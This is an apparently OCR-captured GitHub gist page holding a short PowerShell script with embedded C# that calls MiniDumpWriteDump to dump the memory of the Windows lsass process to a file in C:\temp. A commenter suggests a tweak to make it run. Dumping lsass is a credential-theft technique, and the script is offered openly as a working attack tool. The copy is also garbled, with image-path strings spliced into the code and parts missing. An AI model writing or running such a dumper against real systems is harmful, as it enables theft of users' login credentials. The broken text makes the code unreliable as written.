Skip to content

Instantly share code, notes, andsnippets.

Created November 27, 2019 12:28
  • Star 17 You must be signed in to star a gist
  • Fork 5 You must be signed in to fork a gist
Star You must be signed in to star a gist
Save dmaasland/b8a1e66a14d448ec5a28640e2e2a1605 to your computer and use it in GitHub Desktop.
$Source = @"
using System;
using System.Runtime.InteropServices;
namespace ProcDump {
public static class DbgHelp {
public static extern bool MiniDumpWriteDump(IntPtr hProcess, uint ProcessId, IntPtr hFile, IntPtr DumpType, IntPtr ExceptionParam,IntPtr UserStreamParam, IntPtr CallbackParam);
If (-Not "ProcDump" -as [Type]) {
Add-Type -TypeDefinition $Source
$Process = [System.Diagnostics.Process]::GetProcessesByName("lsass")
$DumpPath = "C:\temp\$($Process.Name).dmp"
$DumpStream = [System.IO.FileStream]::new($DumpPath, [System.IO.FileMode]::Create)
$DumpType = [IntPtr]::new(2)
$Dump =[ProcDump.DbgHelp]::MiniDumpWriteDump($Process.Handle, $Process.Id, $DumpStream.Handle, $DumpType, [IntPtr]::Zero, [IntPtr]::Zero, [IntPtr]::Zero)
Copy linkRemove the "If" surroundingline 14 :)

Sign up for free to join thisconversation on GitHub.Already have an account? Sign in to comment